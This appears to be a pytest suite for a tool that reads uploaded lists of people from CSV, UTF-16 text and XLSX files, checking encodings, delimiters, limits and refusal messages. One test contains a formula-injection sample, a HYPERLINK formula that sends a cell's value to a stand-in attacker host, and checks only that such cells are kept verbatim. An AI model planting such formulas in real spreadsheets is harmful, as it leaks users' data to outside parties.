"""Reading uploaded lists of people: CSV in the encodings and dialects Excel and others write,
Excel's Unicode text, XLSX workbooks, and the files that are refused, with what they are told."""

from __future__ import annotations

import codecs
import datetime
import io
import zipfile
import zlib
from typing import Any

import pytest

from avatars.campaigns import spreadsheet
from avatars.campaigns.spreadsheet import SheetRow, SpreadsheetError, Table, read_table
from tests.files import image_bytes
from tests.helpers.spreadsheets import csv_bytes, excel_unicode_text, xlsx_bytes

LIMITS = {"max_rows": 10_000, "max_bytes": 20 * 2**20}
PEOPLE = [["first_name", "city"], ["Ada", "London"], ["Grace", "New York"]]


def read(data: bytes, filename: str = "people.csv", **limits: int) -> Table:
    return read_table(data, filename, **{**LIMITS, **limits})


def refusal(data: bytes, filename: str = "people.csv", **limits: int) -> str:
    with pytest.raises(SpreadsheetError) as caught:
        read(data, filename, **limits)
    return str(caught.value)


def numbered(table: Table) -> list[tuple[int, dict[str, str]]]:
    return [(row.number, row.values) for row in table.rows]


# Text encodings


def test_a_utf8_csv_gives_its_header_and_numbered_rows() -> None:
    table = read(csv_bytes(PEOPLE))

    assert table.headers == ["first_name", "city"]
    assert table.rows == [
        SheetRow(2, {"first_name": "Ada", "city": "London"}),
        SheetRow(3, {"first_name": "Grace", "city": "New York"}),
    ]
    assert (table.encoding, table.delimiter) == ("utf-8", ",")


def test_excel_csv_utf8_with_a_bom_loses_the_bom_from_the_first_header() -> None:
    table = read(csv_bytes([["name", "city"], ["Zoë", "Zürich"]], bom=True))

    assert table.encoding == "utf-8-sig"
    assert table.headers == ["name", "city"]
    assert numbered(table) == [(2, {"name": "Zoë", "city": "Zürich"})]


@pytest.mark.parametrize("line_end", ["\r\n", "\n", "\r"], ids=["crlf", "lf", "old-mac-cr"])
def test_every_kind_of_line_end_reads_alike(line_end: str) -> None:
    rows = [["name", "note"], ["Ada", "two\nlines"], [], ["Grace", "x"]]
    table = read(csv_bytes(rows, line_end=line_end))

    assert numbered(table) == [
        (2, {"name": "Ada", "note": "two\nlines"}),
        (4, {"name": "Grace", "note": "x"}),
    ]


@pytest.mark.parametrize(
    "rows",
    [
        [["name", "city"], ["José", "Köln"]],
        [["name"], ["Élodie"]],
        [["name", "note"], ["Ada", "“quoted” — 5 €"]],
        [["first_name", "last_name", "city"], ["René", "Müller", "Düsseldorf"]],
        [["name", "greeting"], ["Zoë", "Grüße aus der Straße"], ["Chloé", "À bientôt, l’été"]],
        [["name", "city"], ["Søren", "Århus"], ["Björk", "Reykjavík"], ["Þóra", "Akureyri"]],
        [["nom", "ville"], ["Œdipe", "Besançon"], ["François", "Saint-Étienne"]],
    ],
    ids=["josé-köln", "one-cell", "curly-quotes-euro", "müller", "grüße", "nordic", "œ-ç"],
)
def test_a_short_windows_1252_file_keeps_its_accents(rows: list[list[str]]) -> None:
    table = read(csv_bytes(rows, encoding="cp1252"))

    assert table.encoding == "cp1252"
    assert [list(row.values.values()) for row in table.rows] == rows[1:]
    assert table.headers == rows[0]


def test_a_long_windows_1252_file_keeps_its_accents() -> None:
    person = ["René", "Müller", "rene@example.com", "Düsseldorf", "Grüße, und “danke” – 5 €"]
    rows = [["first_name", "last_name", "email", "city", "note"]] + [person] * 2_000
    table = read(csv_bytes(rows, encoding="cp1252", delimiter=";"))

    assert (table.encoding, table.delimiter) == ("cp1252", ";")
    assert len(table.rows) == 2_000
    assert table.rows[-1] == SheetRow(2_001, dict(zip(rows[0], person, strict=True)))


def test_a_polish_windows_1250_file_is_not_taken_for_windows_1252() -> None:
    rows = [["imię", "miasto"], ["Łukasz", "Łódź"], ["Zażółć", "gęślą"], ["Błażej", "Kraków"]]
    table = read(csv_bytes(rows, encoding="cp1250"))

    assert table.encoding == "cp1250"
    assert [list(row.values.values()) for row in table.rows] == rows[1:]


def test_a_russian_windows_1251_file_is_recognised() -> None:
    rows = [["имя", "город"], ["Иван", "Москва"], ["Ольга", "Санкт-Петербург"]]
    table = read(csv_bytes(rows, encoding="cp1251"))

    assert table.encoding == "cp1251"
    assert table.headers == ["имя", "город"]
    assert table.rows[1].values == {"имя": "Ольга", "город": "Санкт-Петербург"}


def test_excel_unicode_text_is_read_as_utf16_with_tabs() -> None:
    rows = [["name", "city"], ["李雷", "北京"], ["محمد", "القاهرة"]]
    table = read(excel_unicode_text(rows), "people.txt")

    assert (table.encoding, table.delimiter) == ("utf-16", "\t")
    assert numbered(table) == [
        (2, {"name": "李雷", "city": "北京"}),
        (3, {"name": "محمد", "city": "القاهرة"}),
    ]


def test_big_endian_utf16_is_read_too() -> None:
    data = codecs.BOM_UTF16_BE + "name\tcity\r\n李雷\t北京\r\n".encode("utf-16-be")

    assert numbered(read(data, "people.txt")) == [(2, {"name": "李雷", "city": "北京"})]


@pytest.mark.parametrize(
    ("filename", "data"),
    [
        ("people.csv", csv_bytes([["name", "greeting"], ["李雷", "你好"], ["محمد", "مرحبا"]])),
        (
            "people.txt",
            excel_unicode_text([["name", "greeting"], ["李雷", "你好"], ["محمد", "مرحبا"]]),
        ),
        ("people.xlsx", xlsx_bytes([["name", "greeting"], ["李雷", "你好"], ["محمد", "مرحبا"]])),
    ],
    ids=["utf-8", "utf-16", "xlsx"],
)
def test_chinese_and_arabic_names_come_through_every_format(filename: str, data: bytes) -> None:
    assert numbered(read(data, filename)) == [
        (2, {"name": "李雷", "greeting": "你好"}),
        (3, {"name": "محمد", "greeting": "مرحبا"}),
    ]


# Delimiters


def test_semicolons_are_found_even_with_decimal_commas_in_the_cells() -> None:
    rows = [["name", "amount", "city"], ["Ada", "1,5", "London"], ["Grace", "2,75", "Paris"]]
    table = read(csv_bytes(rows, delimiter=";"))

    assert table.delimiter == ";"
    assert table.rows[0].values == {"name": "Ada", "amount": "1,5", "city": "London"}


def test_tabs_are_found_even_with_commas_in_the_cells() -> None:
    rows = [["name", "address"], ["Ada", "12 St James's Square, London"], ["Grace", "Paris, FR"]]
    table = read(csv_bytes(rows, delimiter="\t"), "people.tsv")

    assert table.delimiter == "\t"
    assert table.rows[1].values == {"name": "Grace", "address": "Paris, FR"}


def test_commas_and_semicolons_inside_quotes_do_not_fool_the_sniffer() -> None:
    rows = [
        ["name", "note"],
        ["Ada", "a; b; c, and d"],
        ["Grace", "x;y;z"],
        ["Alan", "semi; colons; everywhere;"],
    ]
    table = read(csv_bytes(rows))

    assert table.delimiter == ","
    assert [row.values["note"] for row in table.rows] == [r[1] for r in rows[1:]]


def test_a_one_column_file_is_a_table() -> None:
    table = read(b"email\nada@example.com\ngrace@example.com\n")

    assert (table.headers, table.delimiter) == (["email"], ",")
    assert numbered(table) == [
        (2, {"email": "ada@example.com"}),
        (3, {"email": "grace@example.com"}),
    ]


# Cells and rows


def test_quoted_cells_keep_commas_semicolons_quotes_and_line_breaks() -> None:
    data = (
        b"name,address,quote\r\n"
        b'Ada,"12 High St, London; UK","She said ""hi"""\r\n'
        b'Grace,"Line one\r\nLine two\r\nLine three",plain\r\n'
        b"Alan,x,y\r\n"
    )
    table = read(data)

    assert numbered(table) == [
        (2, {"name": "Ada", "address": "12 High St, London; UK", "quote": 'She said "hi"'}),
        (3, {"name": "Grace", "address": "Line one\nLine two\nLine three", "quote": "plain"}),
        (4, {"name": "Alan", "address": "x", "quote": "y"}),
    ]


def test_blank_and_delimiter_only_rows_are_skipped_and_later_rows_keep_their_numbers() -> None:
    data = b"name;city;;\r\nAda;London;;\r\n;;;\r\n\r\nGrace;Paris;;\r\n;;;\r\n\r\n\r\n"
    table = read(data)

    assert numbered(table) == [
        (2, {"name": "Ada", "city": "London"}),
        (5, {"name": "Grace", "city": "Paris"}),
    ]


def test_rows_above_the_header_are_counted_in_the_numbers() -> None:
    table = read(b"\r\n\r\nname,city\r\nAda,London\r\n")

    assert numbered(table) == [(4, {"name": "Ada", "city": "London"})]


def test_short_rows_get_empty_cells() -> None:
    table = read(b"name,city,email\nAda\nGrace,Paris\n")

    assert numbered(table) == [
        (2, {"name": "Ada", "city": "", "email": ""}),
        (3, {"name": "Grace", "city": "Paris", "email": ""}),
    ]


def test_headers_and_cells_are_stripped() -> None:
    table = read(b" name , city \n  Ada  ,\t London \n")

    assert numbered(table) == [(2, {"name": "Ada", "city": "London"})]


def test_empty_cells_beyond_the_header_are_ignored() -> None:
    table = read(b"name,city\nAda,London,,\nGrace,Paris,   ,\n")

    assert [row.values for row in table.rows] == [
        {"name": "Ada", "city": "London"},
        {"name": "Grace", "city": "Paris"},
    ]


def test_a_filled_cell_beyond_the_header_is_refused_naming_its_row() -> None:
    rows = [["a", "b", "c", "d"]] + [["1", "2", "3", "4"]] * 5 + [["1", "2", "3", "4", "oops"]]
    message = refusal(csv_bytes(rows))

    assert message.startswith("Row 7 has 5 cells but the header names 4 columns")
    assert "column E holds “oops”" in message
    assert "Give the column a name in row 1" in message


def test_a_cell_that_starts_like_a_formula_is_kept_verbatim() -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A2,"Click me")'
    rows = [["name", "link"], ["Ada", formula], ["Grace", "+1 555 0100"], ["Alan", "@handle"]]
    for table in [read(csv_bytes(rows)), read(xlsx_bytes(rows), "people.xlsx")]:
        assert [row.values["link"] for row in table.rows] == [formula, "+1 555 0100", "@handle"]


def test_an_unclosed_quote_is_refused_naming_its_row() -> None:
    message = refusal(b'name,note\nAda,fine\nGrace,"never closed\nAlan,x\nLinus,y\n')

    assert message.startswith("Row 3 could not be read")
    assert "quote mark" in message


# Headers


def test_trailing_empty_header_columns_are_ignored() -> None:
    table = read(b"a,b,,\n1,2,,\n3,4\n")

    assert table.headers == ["a", "b"]
    assert [row.values for row in table.rows] == [{"a": "1", "b": "2"}, {"a": "3", "b": "4"}]


def test_an_unnamed_column_without_data_is_ignored() -> None:
    table = read(b"name,,city\nAda,,London\n")

    assert table.headers == ["name", "city"]
    assert table.rows[0].values == {"name": "Ada", "city": "London"}


def test_an_unnamed_column_with_data_is_refused_naming_the_column() -> None:
    message = refusal(b"name,email,,city\nAda,a@example.com,,London\nGrace,g@x.com,VIP,Paris\n")

    assert message.startswith("Column C has no name in the header row")
    assert "row 3 has “VIP” in it" in message


@pytest.mark.parametrize(
    ("first", "second"),
    [("First Name", "first_name"), ("E-mail", "email"), ("City", "CITY"), ("a_b", "A-B")],
)
def test_headers_that_differ_only_in_case_spaces_or_dashes_are_refused_naming_both(
    first: str, second: str
) -> None:
    message = refusal(csv_bytes([[first, "x", second], ["1", "2", "3"]]))

    assert f"“{first}” (column A) and “{second}” (column C)" in message
    assert "rename" in message


# XLSX


def test_an_xlsx_workbook_gives_cells_as_excel_shows_them() -> None:
    rows: list[list[Any]] = [
        ["name", "age", "score", "ratio", "joined", "call at", "vip", "note"],
        [
            "  Ada  ",
            36,
            42.0,
            0.1 + 0.2,
            datetime.date(2026, 3, 1),
            datetime.datetime(2026, 3, 1, 14, 30),
            True,
            None,
        ],
        [
            "Grace",
            -7,
            3.5,
            1e-7,
            datetime.datetime(2026, 3, 1),
            datetime.datetime(2026, 3, 1, 9, 5, 7),
            False,
            "x",
        ],
    ]
    table = read(xlsx_bytes(rows), "people.xlsx")

    assert (table.encoding, table.delimiter) == ("xlsx", "")
    assert table.headers == rows[0]
    assert numbered(table) == [
        (2, {"name": "Ada", "age": "36", "score": "42", "ratio": "0.3", "joined": "2026-03-01",
             "call at": "2026-03-01 14:30", "vip": "TRUE", "note": ""}),
        (3, {"name": "Grace", "age": "-7", "score": "3.5", "ratio": "1e-07",
             "joined": "2026-03-01", "call at": "2026-03-01 09:05:07", "vip": "FALSE",
             "note": "x"}),
    ]  # fmt: skip


def test_an_xlsx_workbook_skips_empty_rows_and_keeps_the_numbers() -> None:
    rows: list[list[object]] = [
        ["name", "city"],
        ["Ada", None],
        [None, None],
        [],
        ["Grace", "Paris"],
    ]
    table = read(xlsx_bytes(rows, formatted_blank_rows=20), "people.xlsx")

    assert numbered(table) == [
        (2, {"name": "Ada", "city": ""}),
        (5, {"name": "Grace", "city": "Paris"}),
    ]


def test_the_active_sheet_of_a_workbook_is_read() -> None:
    data = xlsx_bytes(PEOPLE, sheets_before=["Instructions"])

    assert read(data, "people.xlsx").rows[0].values == {"first_name": "Ada", "city": "London"}


def test_a_workbook_is_recognised_by_its_content_whatever_its_name() -> None:
    assert read(xlsx_bytes(PEOPLE), "people.csv").encoding == "xlsx"


def test_an_xlsx_over_the_row_limit_is_refused_without_reading_it_all(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    cells_read = 0
    cell_text = spreadsheet._cell_text

    def counting(value: object) -> str:
        nonlocal cells_read
        cells_read += 1
        return cell_text(value)

    monkeypatch.setattr(spreadsheet, "_cell_text", counting)
    data = xlsx_bytes([["name"]] + [[f"person {n}"] for n in range(2_000)])
    message = refusal(data, "people.xlsx", max_rows=10)

    assert message.startswith("“people.xlsx” has more than 10 rows; a campaign takes at most 10.")
    assert "Split it" in message
    assert cells_read < 20


def test_an_xlsx_at_the_row_limit_is_read() -> None:
    data = xlsx_bytes([["name"]] + [[f"person {n}"] for n in range(10)])

    assert len(read(data, "people.xlsx", max_rows=10).rows) == 10


# Refusals


@pytest.mark.parametrize(
    ("filename", "data"),
    [
        ("people.csv", b""),
        ("people.csv", b"  \r\n\t\n"),
        ("people.csv", codecs.BOM_UTF8),
        ("people.txt", codecs.BOM_UTF16_LE),
        ("people.csv", b";;;\r\n;;;\r\n"),
        ("people.xlsx", xlsx_bytes([])),
        ("people.xlsx", xlsx_bytes([[None, None], [" ", ""]])),
    ],
    ids=["no-bytes", "whitespace", "utf8-bom", "utf16-bom", "delimiters", "xlsx", "xlsx-blank"],
)
def test_an_empty_file_is_refused(filename: str, data: bytes) -> None:
    assert refusal(data, filename).startswith(f"“{filename}” is empty.")


@pytest.mark.parametrize(
    ("filename", "data"),
    [("people.csv", b"name,email\r\n\r\n,\r\n"), ("people.xlsx", xlsx_bytes([["name", "email"]]))],
)
def test_a_header_without_people_is_refused(filename: str, data: bytes) -> None:
    assert f"“{filename}” has a header row but no people in it." in refusal(data, filename)


def test_a_file_over_the_size_limit_is_refused_before_it_is_read() -> None:
    data = b"%PDF" + b"\x00" * (32_715_000 - 4)
    message = refusal(data, max_bytes=20 * 2**20)

    assert message.startswith("“people.csv” is 31.2 MB; the limit is 20 MB.")


def test_a_size_limit_in_decimal_megabytes_reads_as_round() -> None:
    message = refusal(b"x" * 25_000_001, max_bytes=25_000_000)

    assert message.startswith("“people.csv” is 25.1 MB; the limit is 25 MB.")


def test_a_csv_over_the_row_limit_is_refused_saying_how_many_rows_it_has() -> None:
    rows = [["email"]] + [[f"p{n}@example.com"] for n in range(12_004)] + [[""]] * 3
    message = refusal(csv_bytes(rows))

    assert message.startswith(
        "“people.csv” has 12,004 rows; a campaign takes at most 10,000. Split it"
    )


def test_a_csv_at_the_row_limit_is_read() -> None:
    rows = [["email"]] + [[f"p{n}@example.com"] for n in range(10_000)]

    assert read(csv_bytes(rows)).rows[-1].number == 10_001


def _zip(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Length 40 >>\nstream\n" + zlib.compress(
    b"BT /F1 12 Tf 72 712 Td (Hello) Tj ET" * 20
)


@pytest.mark.parametrize(
    ("data", "looks"),
    [
        (PDF, "a PDF document"),
        (b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n", "a PDF document"),
        (image_bytes((40, 40), "PNG"), "a PNG image"),
        (image_bytes((40, 40), "JPEG"), "a JPEG image"),
        (_zip({"people.csv": b"name\nAda\n"}), "a ZIP archive or Office document"),
        (b"<!DOCTYPE html><html><body><table><tr><td>Ada</td></tr></table></body></html>",
         "an HTML web page"),
        (zlib.compress(b"name,city\n" * 50)[2:], "binary data"),
    ],
    ids=["pdf", "ascii-pdf", "png", "jpeg", "zip", "html", "binary"],
)  # fmt: skip
def test_a_file_that_is_not_a_table_is_refused_saying_what_it_looks_like(
    data: bytes, looks: str
) -> None:
    message = refusal(data)

    assert message.startswith("“people.csv” is not a spreadsheet:")
    assert looks in message
    assert "Export the list of people as CSV or as an Excel workbook (.xlsx)" in message


def test_a_header_that_starts_like_a_bmp_signature_is_still_a_table() -> None:
    assert read(b"BMI,weight\n22.5,70\n").rows[0].values == {"BMI": "22.5", "weight": "70"}


def test_an_old_xls_workbook_is_refused_saying_how_to_save_it() -> None:
    data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504

    for filename in ["people.xls", "people.csv"]:
        message = refusal(data, filename)
        assert message.startswith(f"“{filename}” is an old-style Excel workbook (.xls)")
        assert "“CSV UTF-8” or “Excel Workbook (.xlsx)”" in message


def test_a_password_protected_xlsx_is_refused_saying_to_remove_the_password() -> None:
    data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504

    assert "is protected with a password" in refusal(data, "people.xlsx")


def test_an_opendocument_spreadsheet_is_refused_saying_how_to_save_it() -> None:
    data = _zip(
        {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"},
        zipfile.ZIP_STORED,
    )

    assert refusal(data, "people.ods").startswith("“people.ods” is an OpenDocument spreadsheet")


@pytest.mark.parametrize(
    "data",
    [
        xlsx_bytes(PEOPLE)[:3000],
        _zip({"word/document.xml": b"<w:document/>", "[Content_Types].xml": b"<Types/>"}),
        b"name,email\nAda,ada@example.com\n",
    ],
    ids=["truncated", "docx", "csv-renamed"],
)
def test_a_damaged_xlsx_is_refused_as_not_an_excel_workbook(data: bytes) -> None:
    message = refusal(data, "people.xlsx")

    assert message.startswith("“people.xlsx” could not be opened as an Excel workbook")
    assert "save it again" in message


def test_only_the_file_name_is_shown_not_its_path() -> None:
    assert refusal(b"", "C:\\fakepath\\people.csv").startswith("“people.csv” is empty.")
